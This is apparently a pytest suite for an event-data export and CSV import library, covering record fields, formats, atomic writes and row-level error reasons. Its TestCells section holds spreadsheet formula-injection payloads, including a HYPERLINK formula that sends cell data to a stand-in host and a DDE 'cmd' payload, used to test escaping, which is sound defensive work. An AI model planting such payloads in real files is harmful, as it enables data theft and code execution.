"""Events out and in: one record for every format, files that are whole, cells that run nothing, rows with reasons."""

from __future__ import annotations

import csv
import gzip
import io
import json
import lzma
from collections import Counter
from dataclasses import replace

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from etl.errors import InputError
from etl.exchange import FORMATS, BadRow, Citation, encoded, export, format_of, import_csv, record
from etl.exchange.cells import guarded, unguarded
from etl.exchange.csv_import import COLUMNS
from etl.exchange.formats import CSV_COLUMNS
from etl.model import (
    Actor,
    Confidence,
    DatePrecision,
    Event,
    EventType,
    Participant,
    PlacePrecision,
    Status,
)
from tests.made_events import ACTORS, PLACES, a_place, a_report, an_event, made_events, patient

KEYS = [
    *("event_id", "dataset", "event_type", "mode", "status", "date_start", "date_end", "date_precision"),
    *("place", "country", "latitude", "longitude", "place_precision", "fatalities", "wounded", "captured", "count"),
    *("actors", "confidence", "quote", "reports", "sources"),
]
CITED = Citation(
    line="Conflict Timeline, 2 events.", link="http://127.0.0.1:8050/?actor=a", date="2016-06-01", snapshot="00ff", terms="CC BY 4.0"
)  # fmt: skip
FULL = an_event(
    7,
    mode="aerial",
    status=Status.CLAIMED,
    participants=(
        Participant(actor=ACTORS[3], role="source", mention="The army"),
        Participant(actor=ACTORS[5], role="target"),
        Participant(actor=ACTORS[6], role="participant"),
    ),
    fatalities=12,
    count=3,
    confidence=Confidence(who=0.12345, what=1, where=0.5, when=2 / 3, overall=0.3),
    reports=(a_report("one"), a_report("two", 2)),
)


def exported(tmp_path, suffix, *events, citation=CITED):
    path = tmp_path / f"events{suffix}"
    assert export(events, path, citation=citation) == len(events)
    return path.read_bytes().decode()


class TestRecord:
    def test_the_whole_record(self):
        """Every key in its order; spans are those of the sentences, the words are the text's own."""
        assert json.dumps(record(FULL)) == json.dumps(
            {
                "event_id": "ev_000000000007",
                "dataset": "articles",
                "event_type": "ASSAULT",
                "mode": "aerial",
                "status": "claimed",
                "date_start": "2016-04-05",
                "date_end": "2016-04-05",
                "date_precision": "day",
                "place": "Hīt",
                "country": "AT",
                "latitude": 10.5,
                "longitude": 20.5,
                "place_precision": "exact",
                "fatalities": 12,
                "wounded": None,
                "captured": None,
                "count": 3,
                "actors": [
                    {"actor_id": "atlantis-army", "name": "Atlantis-Army", "role": "source", "mention": "The army"},
                    {"actor_id": "rebels", "name": "Rebels", "role": "target", "mention": None},
                    {"actor_id": "league", "name": "League", "role": "participant", "mention": None},
                ],
                "confidence": {"who": 0.123, "what": 1.0, "where": 0.5, "when": 0.667, "overall": 0.3},
                "quote": "The army took Hit last month.",
                "reports": [
                    {"article_id": "one", "start": 38, "end": 67},
                    {"article_id": "two", "start": 83, "end": 113},
                ],
                "sources": 1,
            }
        )

    def test_what_is_unknown_is_null(self):
        """No key is left out, no list is null, and an undated event says that its date is unknown."""
        bare = record(an_event(1, when=None, where=(), participants=(), reports=()))
        assert list(bare) == KEYS
        assert {key for key, value in bare.items() if value is None} == {
            "mode", "date_start", "date_end", "place", "country", "latitude", "longitude", "fatalities", "wounded", "captured", "count", "quote",
        }  # fmt: skip
        assert (bare["date_precision"], bare["place_precision"], bare["actors"], bare["reports"]) == (
            "unknown",
            "none",
            [],
            [],
        )

    @pytest.mark.parametrize("precision", list(PlacePrecision))
    def test_coordinates_are_null_only_for_country_and_none(self, precision):
        """An area has a representative point; a whole country has none."""
        told = record(an_event(1, where=(a_place("P", "AT", 1.0, 2.0, precision),)))
        pointless = precision in {PlacePrecision.COUNTRY, PlacePrecision.NONE}
        assert (told["latitude"], told["longitude"]) == ((None, None) if pointless else (1.0, 2.0))
        assert told["place_precision"] == precision.value

    @pytest.mark.parametrize(
        ("where", "place", "country", "latitude"),
        [
            ((PLACES[0], PLACES[2]), "Hīt; Szohôd", ["AT", "BO"], 10.5),
            ((PLACES[0], PLACES[1]), "Hīt", "AT", 10.5),
            ((PLACES[0], PLACES[6]), "Hīt; Carpathia", ["AT", "CA"], None),
            ((PLACES[4],), "Narrow Sea", None, 3.0),
        ],
    )
    def test_several_places(self, where, place, country, latitude):
        """Names joined once each; the country is a list where there are several."""
        told = record(an_event(1, where=where))
        assert (told["place"], told["country"], told["latitude"]) == (place, country, latitude)


class TestFormats:
    def test_json_lines(self, tmp_path):
        """One record a line, in UTF-8 as it stands."""
        text = exported(tmp_path, ".jsonl", FULL, an_event(1))
        assert [json.loads(line) for line in text.splitlines()] == [record(FULL), record(an_event(1))]
        assert "Hīt" in text

    def test_csv(self, tmp_path):
        """Line 1 is the header, one line an event; link, date, citation and snapshot are the last columns."""
        text = exported(tmp_path, ".csv", replace(FULL, reports=(replace(a_report(), quote='Two\r\nlines, "quoted".'),)), an_event(1))  # fmt: skip
        lines = text.split("\n")
        assert (lines[0], len(lines), lines[3]) == (",".join(CSV_COLUMNS), 4, "")
        first = next(csv.DictReader(io.StringIO(text)))
        assert list(first.items())[-4:] == [
            ("link", CITED.link), ("date", "2016-06-01"), ("citation", "Conflict Timeline, 2 events. CC BY 4.0"), ("snapshot", "00ff"),
        ]  # fmt: skip
        assert (first["source"], first["target"], first["participants"]) == ("Atlantis-Army", "Rebels", "League")
        assert (first["quote"], first["reports"], first["fatalities"]) == ('Two lines, "quoted".', "one:38-67", "12")

    def test_csv_opens_in_pandas(self, tmp_path):
        """Numbers are numbers, dates are dates, nothing is shifted."""
        exported(tmp_path, ".csv", FULL, an_event(1, when=None))
        frame = pd.read_csv(tmp_path / "events.csv", parse_dates=["date_start"])
        assert (len(frame), frame["latitude"].sum(), frame["date_start"].isna().tolist()) == (2, 21.0, [False, True])

    def test_geojson(self, tmp_path):
        """A feature an event, longitude first; the citation at the top; no point, geometry null."""
        several = an_event(2, where=(PLACES[0], PLACES[2]))
        read = json.loads(exported(tmp_path, ".geojson", FULL, several, an_event(3, where=(PLACES[5],))))
        features = read.pop("features")
        assert read == {
            "type": "FeatureCollection",
            "citation": CITED.line,
            "terms": CITED.terms,
            "link": CITED.link,
            "date": CITED.date,
            "snapshot": CITED.snapshot,
        }
        assert features[0] == {
            "type": "Feature",
            "id": FULL.event_id,
            "geometry": {"type": "Point", "coordinates": [20.5, 10.5]},
            "properties": record(FULL),
        }
        assert features[1]["geometry"] == {"type": "MultiPoint", "coordinates": [[20.5, 10.5], [31.0, -4.0]]}
        assert features[2]["geometry"] is None

    @pytest.mark.parametrize("suffix", sorted(FORMATS))
    def test_no_events(self, tmp_path, suffix):
        """An empty file is a right one."""
        text = exported(tmp_path, suffix)
        assert text == {".csv": ",".join(CSV_COLUMNS) + "\n", ".jsonl": ""}.get(suffix, text)
        if suffix == ".geojson":
            assert json.loads(text)["features"] == []

    @settings(patient, max_examples=20)
    @given(made_events(most=5), st.text(st.characters(codec=None), max_size=8))
    def test_any_text_is_written(self, events, text):
        """Whatever stands in a name, the files parse: JSON says exactly that text, CSV has a row an event."""
        odd = [replace(event, origin=text, where=(replace(PLACES[0], name=text),)) for event in events]
        written = {suffix: b"".join(map(encoded, made.lines(odd, CITED))).decode() for suffix, made in FORMATS.items()}
        assert [json.loads(line)["place"] for line in written[".jsonl"].split("\n")[:-1]] == [text or None] * len(odd)
        assert [f["properties"]["place"] for f in json.loads(written[".geojson"])["features"]] == [text or None] * len(
            odd
        )
        assert len(list(csv.reader(io.StringIO(written[".csv"], newline="")))) == len(odd) + 1


class TestFiles:
    def test_an_unknown_extension(self, tmp_path):
        """The message names those that work."""
        with pytest.raises(InputError, match=r"'\.xlsx'; name a file that ends in \.csv, \.geojson, \.jsonl"):
            format_of(tmp_path / "events.xlsx")

    def test_a_missing_folder(self, tmp_path):
        """One clear line."""
        with pytest.raises(InputError, match="cannot be written: No such file"):
            export([], tmp_path / "none" / "events.csv")

    def test_a_file_is_whole_or_as_it_was(self, tmp_path):
        """An export that stops half way leaves the earlier file and nothing beside it."""
        path = tmp_path / "events.csv"
        export([FULL], path)
        before = path.read_bytes()

        def stopping():
            yield FULL
            raise KeyboardInterrupt

        with pytest.raises(KeyboardInterrupt):
            export(stopping(), path)
        assert (path.read_bytes(), list(tmp_path.iterdir())) == (before, [path])


FORMULAS = [
    '=HYPERLINK("http://e/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "＝1",
    '"=1', "-33.4", "+964 1", "'=1", "''+1", "\ufeff=1",
]  # fmt: skip


class TestCells:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_formulas_are_text(self, text):
        """What a spreadsheet would run starts with an apostrophe and comes back without."""
        assert guarded(text).startswith("'")
        assert unguarded(guarded(text)) == text.replace("\r", " ").replace("\n", " ")

    @pytest.mark.parametrize("text", ["Hit", "", "'tis", "a=1", "3 May", "'", "Al-Qa'im", "(=1)"])
    def test_other_text_is_untouched(self, text):
        """A guard that is not needed is not written."""
        assert (guarded(text), unguarded(text)) == (text, text)

    @patient
    @given(st.text(st.sampled_from("'\"=+-@ \tab＝"), max_size=6))
    def test_the_guard_comes_off_again(self, text):
        """Whatever the text, one round trip gives it back."""
        assert unguarded(guarded(text)) == text

    @pytest.mark.parametrize(
        "text", ["'" * 10**6, " " * 10**6 + "a", "\t" * 10**6, "'" * 10**6 + " " * 10**6 + "a", '"' * 10**6]
    )
    def test_long_cells_take_no_time(self, text):
        """Reading a megabyte of anything is one pass."""
        assert unguarded(guarded(text)) == text

    def test_numbers_are_not_guarded(self, tmp_path):
        """A negative coordinate stays a number; the formula in a name does not run."""
        south = replace(PLACES[2], name="=1+1", latitude=-4.5)
        row = next(csv.DictReader(io.StringIO(exported(tmp_path, ".csv", an_event(1, where=(south,))))))
        assert (row["latitude"], row["place"]) == ("-4.5", "'=1+1")


# ---- import


def an_actor(name):
    return Actor(actor_id=name.lower().replace(" ", "-"), name=name, kind="group")


def geocode(name, country):
    known = {("Hit", ""): PLACES[0], ("Hit", "AT"): PLACES[0], ("Szohod", "BO"): PLACES[2], ("", "CA"): PLACES[6]}
    return known.get((name, country)) or (PLACES[6] if not name and country != "XX" else None)


def imported(text, **options):
    lines = io.StringIO(text, newline="")
    return list(import_csv(lines, dataset="facts", geocode=geocode, actor=an_actor, **options))


def one(header, *cells):
    """The one event or bad row of a file of two lines."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows([header.split(","), cells])
    (found,) = imported(buffer.getvalue())
    return found


class TestImport:
    def test_a_whole_row(self):
        """Each column in its place."""
        event = one(
            "id,date_start,date_end,date_precision,event_type,mode,status,place,country,latitude,longitude,place_precision,"
            "source,target,count,fatalities,origin",
            *(
                "17",
                "2016-04-01",
                "2016-04-30",
                "month",
                "ASSAULT",
                "aerial",
                "aggregate",
                "Hit area",
                "AT",
                "10.5",
                "20.5",
            ),
            *("near", "Atlantis; Borduria", "Rebels", "12", "4.0", "A list of strikes, row 17"),
        )
        assert record(event) | {"event_id": "", "place_id": event.where[0].place_id} == {
            "event_id": "",
            "dataset": "facts",
            "event_type": "ASSAULT",
            "mode": "aerial",
            "status": "aggregate",
            "date_start": "2016-04-01",
            "date_end": "2016-04-30",
            "date_precision": "month",
            "place": "Hit area",
            "country": "AT",
            "latitude": 10.5,
            "longitude": 20.5,
            "place_precision": "near",
            "fatalities": 4,
            "wounded": None,
            "captured": None,
            "count": 12,
            "actors": [
                {"actor_id": "atlantis", "name": "Atlantis", "role": "source", "mention": None},
                {"actor_id": "borduria", "name": "Borduria", "role": "source", "mention": None},
                {"actor_id": "rebels", "name": "Rebels", "role": "target", "mention": None},
            ],
            "confidence": {"who": 1.0, "what": 1.0, "where": 1.0, "when": 1.0, "overall": 1.0},
            "quote": None,
            "reports": [],
            "sources": 1,
            "place_id": "point:10.50000,20.50000",
        }
        assert event.origin == "A list of strikes, row 17"

    @pytest.mark.parametrize(
        ("cells", "start", "end", "precision", "value"),
        [
            (("2016-05-04", "", "", ""), "2016-05-04", "2016-05-04", "day", "2016-05-04"),
            (("2016-05-04T00:00:00", "", "", ""), "2016-05-04", "2016-05-04", "day", "2016-05-04"),
            (("2016-02", "", "", ""), "2016-02-01", "2016-02-29", "month", "2016-02"),
            (("2016", "", "", ""), "2016-01-01", "2016-12-31", "year", "2016"),
            (("", "2016-05-04", "", ""), "2016-05-04", "2016-05-04", "day", "2016-05-04"),
            (("", "2016-05-04", "2016-05-06", ""), "2016-05-04", "2016-05-06", "days", "2016-05-04/2016-05-06"),
            (("", "2016-05-02", "2016-05-08", ""), "2016-05-02", "2016-05-08", "week", "2016-05-02/2016-05-08"),
            (("", "2014-09", "2016-05-04", "open"), "2014-09-01", "2016-05-04", "open", "2014-09-01/2016-05-04"),
            (("", "2016-01-01", "2016-03-31", ""), "2016-01-01", "2016-03-31", "year", "2016-01-01/2016-03-31"),
        ],
    )
    def test_dates(self, cells, start, end, precision, value):
        """A vague date is an interval; the precision follows from its length unless the row says it."""
        when = one("date,date_start,date_end,date_precision,event_type", *cells, "AID").when
        assert (when.start.isoformat(), when.end.isoformat(), when.precision, when.value) == (
            start,
            end,
            precision,
            value,
        )

    @pytest.mark.parametrize(
        ("cells", "where"),
        [
            (("Hit", "", ""), (PLACES[0],)),
            (("Hit", "AT", ""), (PLACES[0],)),
            (("Hit; Szohod", "AT; BO", ""), (PLACES[0], PLACES[2])),
            (("Hit", "at", "near"), (replace(PLACES[0], precision=PlacePrecision.NEAR),)),
            (("", "CA", ""), (PLACES[6],)),
            (("", "", ""), ()),
            (("Hit", "AT", "none"), ()),
        ],
    )
    def test_places_to_geocode(self, cells, where):
        """Without coordinates the gazetteer is asked, name by name, or for the country alone."""
        assert one("place,country,place_precision,event_type", *cells, "AID").where == where

    @pytest.mark.parametrize(
        ("header", "cells", "reason", "value"),
        [
            ("event_type", ("WAR",), "event_type is not one of PLOVER's", "WAR"),
            ("event_type,status", ("AID", "maybe"), "unknown status", "maybe"),
            ("event_type,date", ("AID", "4 May 2016"), "a date is not like 2016-05-04", "4 May 2016"),
            ("event_type,date", ("AID", "04/05/2016"), "a date is not like 2016-05-04", "04/05/2016"),
            ("event_type,date", ("AID", "2016-02-30"), "a date is not in the calendar", "2016-02-30"),
            ("event_type,date", ("AID", "0000"), "a date is not in the calendar", "0000"),
            ("event_type,date", ("AID", "２０１６"), "a date is not like 2016-05-04", "２０１６"),
            (
                "event_type,date_start,date_end",
                ("AID", "2016-05-04", "2016-05-03"),
                "date_end is before date_start",
                "2016-05-03",
            ),
            ("event_type,date_end", ("AID", "2016-05-03"), "date_end without date_start", "2016-05-03"),
            ("event_type,date,date_precision", ("AID", "2016", "century"), "unknown date_precision", "century"),
            ("event_type,latitude", ("AID", "33"), "latitude and longitude are not both numbers", ""),
            (
                "event_type,latitude,longitude",
                ("AID", "33", "44 E"),
                "latitude and longitude are not both numbers",
                "44 E",
            ),
            ("event_type,latitude,longitude", ("AID", "nan", "44"), "latitude or longitude is out of range", "nan"),
            ("event_type,latitude,longitude", ("AID", "90.1", "44"), "latitude or longitude is out of range", "90.1"),
            ("event_type,country", ("AID", "Iraq"), "country is not an ISO code like IQ", "Iraq"),
            ("event_type,country", ("AID", "XX"), "no country has this ISO code", "XX"),
            ("event_type,country,latitude,longitude", ("AID", "XX", "1", "2"), "no country has this ISO code", "XX"),
            ("event_type,mode", ("CONSULT", "aerial"), "mode is not one of PLOVER's for CONSULT", "aerial"),
            ("event_type,place", ("AID", "Atlantropa"), "place not found", "Atlantropa"),
            ("event_type,place,country", ("AID", "Hit", "BO"), "place not found", "Hit, BO"),
            ("event_type,place_precision", ("AID", "roughly"), "unknown place_precision", "roughly"),
            ("event_type,fatalities", ("AID", "many"), "fatalities is not a whole number", "many"),
            ("event_type,fatalities", ("AID", "-1"), "fatalities is not a whole number", "-1"),
            ("event_type,fatalities", ("AID", "inf"), "fatalities is not a whole number", "inf"),
            ("event_type,count", ("AID", "1.5"), "count is not a whole number", "1.5"),
            ("event_type,confidence", ("AID", "90"), "confidence is not between 0 and 1", "90"),
            ("event_type", ("AID", "surplus"), "more cells than columns", ""),
        ],
    )
    def test_bad_rows_say_why(self, header, cells, reason, value):
        """The reason is the same for the same cause, and the cell is named."""
        assert one(header, *cells) == BadRow(line=2, reason=reason, value=value)

    def test_good_rows_go_in_beside_bad_ones(self):
        """A file of good and bad rows gives each its event or its reason; empty lines are nothing."""
        long_cell = "x" * 200_000
        found = imported(f"event_type,origin\nAID,\n\nWAR,\n,\nAID,{long_cell}\nASSAULT,=1\n\n")
        reasons = Counter(row.reason for row in found if isinstance(row, BadRow))
        assert reasons == {"event_type is not one of PLOVER's": 1, "the row cannot be read": 1}
        assert [row.event_type for row in found if isinstance(row, Event)] == [EventType.AID, EventType.ASSAULT]
        assert [row.line for row in found if isinstance(row, BadRow)] == [4, 6]

    def test_ids_are_the_rows_own(self):
        """A changed row with the same id is the same event; one id twice in a file is one event and one bad row."""
        (first,) = imported("id,event_type,fatalities\n5,ASSAULT,1\n")
        (changed,) = imported("id,event_type,fatalities\n5,ASSAULT,2\n")
        assert first.event_id == changed.event_id
        assert imported("id,event_type\n5,AID\n5,AID\n")[1] == BadRow(
            line=3, reason="the id stands in an earlier row", value="5"
        )

    def test_rows_without_ids_are_told_apart(self):
        """Equal rows are several events; the order of the file does not matter, nor do columns that are ignored."""
        one_way = imported("event_type,date,note\nAID,2016,a\nAID,2016,b\nAID,2015,c\n")
        other = imported("date,event_type\n2015,AID\n2016,AID\n2016,AID\n")
        ids = [event.event_id for event in one_way]
        assert (len(set(ids)), sorted(ids)) == (3, sorted(event.event_id for event in other))

    def test_an_export_comes_in_again(self, tmp_path):
        """What our own CSV says of an event is read back: type, dates, place, sides, numbers."""
        events = [
            FULL,
            an_event(1, when=None, where=(), participants=()),
            an_event(2, where=(replace(PLACES[0], name="=Hit"),)),
        ]
        back = [event for event in imported(exported(tmp_path, ".csv", *events)) if isinstance(event, Event)]
        same = (*KEYS[2:15], "confidence")
        expected = [{key: record(event)[key] for key in same} for event in events]
        for told in expected:
            told["confidence"] = dict.fromkeys(told["confidence"], told["confidence"]["overall"])
        assert [{key: record(event)[key] for key in same} for event in back] == expected
        assert [[part.role for part in event.participants] for event in back] == [
            ["source", "target", "participant"], [], ["source"],
        ]  # fmt: skip


class TestImportedFiles:
    TEXT = "\ufeffevent_type,date,place\r\nAID,2016-05-04,Hit\r\n"

    @pytest.mark.parametrize(
        ("suffix", "pack"), [(".csv", bytes), (".csv.gz", gzip.compress), (".csv.xz", lzma.compress)]
    )
    def test_packed_files(self, tmp_path, suffix, pack):
        """Plain, gzip and xz, with or without a byte order mark."""
        path = tmp_path / f"facts{suffix}"
        path.write_bytes(pack(self.TEXT.encode()))
        (event,) = import_csv(path, dataset="facts", geocode=geocode, actor=an_actor)
        assert (event.when.precision, event.where) == (DatePrecision.DAY, (PLACES[0],))

    @pytest.mark.parametrize(
        ("name", "content", "message"),
        [
            ("a.csv", b"", "names no column event_type"),
            ("a.csv", b"date;event_type\n2016;AID\n", "separated by commas"),
            ("a.csv", b"event_type,place\nAID,\xff\xfe\n", "cannot be read"),
            ("a.csv.gz", b"not gzip", "cannot be read"),
            ("a.csv.xz", b"not xz", "cannot be read"),
            ("a.csv.xz", lzma.compress(b"event_type\n" + b"AID\n" * 999)[:-40], "cannot be read"),
            ("a.xlsx", b"", "only .csv, .csv.gz and .csv.xz"),
        ],
    )
    def test_files_that_are_no_csv(self, tmp_path, name, content, message):
        """One clear line, never a traceback."""
        (tmp_path / name).write_bytes(content)
        with pytest.raises(InputError, match=message):
            list(import_csv(tmp_path / name, dataset="facts", geocode=geocode, actor=an_actor))

    def test_a_missing_file(self, tmp_path):
        """The message names it."""
        with pytest.raises(InputError, match=r"none\.csv: no such file"):
            list(import_csv(tmp_path / "none.csv", dataset="facts", geocode=geocode, actor=an_actor))

    def test_the_help_names_every_column(self):
        """The command's help is the function's own description."""
        assert [column for column in COLUMNS if column not in (import_csv.__doc__ or "")] == []
